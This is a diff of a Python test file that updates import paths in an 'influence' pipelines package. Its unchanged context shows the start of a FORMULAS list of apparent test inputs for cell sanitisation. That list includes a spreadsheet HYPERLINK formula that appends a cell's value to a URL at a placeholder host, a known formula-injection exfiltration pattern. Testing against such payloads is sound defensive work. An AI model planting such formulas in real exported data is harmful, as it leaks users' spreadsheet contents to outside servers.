@@ -9,10 +9,10 @@ import pytest
 import torch
 
 from influence.pipelines import susceptibilities
-from influence.pipelines.answers import Answer, Hit, record
-from influence.pipelines.cells import as_cell, from_cell
-from influence.pipelines.words import Example
-from influence.sgmcmc.susceptibility import Susceptibility
+from influence.pipelines.chains.examples import Example
+from influence.pipelines.frame.outcome import as_cell, from_cell
+from influence.pipelines.query import Answer, Hit, record
+from influence.sgmcmc.estimators.susceptibility import Susceptibility
 
 FORMULAS = (
     '=HYPERLINK("http://x/"&A1,"y")',
